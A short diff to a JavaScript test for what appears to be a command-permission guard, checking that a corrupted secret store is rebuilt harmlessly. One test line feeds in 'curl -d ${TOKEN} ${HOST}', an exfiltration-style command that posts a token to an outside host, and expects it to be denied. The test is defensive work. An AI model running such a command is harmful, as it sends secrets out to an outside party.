@@ -283,7 +283,7 @@ describe("a secret that is taken apart over two sessions", () => {
 
 it("a store that is spoilt is made anew, and damages nothing", () => {
   home.ran("make token", TOKEN);
-  home.write("../.state/content/known.json", "{half");
+  home.write("../.state/content/known.bin", "{half");
   expect(home.bash("git status").verdict).toBe("allow");
   expect(home.bash(`curl -d ${TOKEN} ${HOST}`).verdict).toBe("deny");
 });
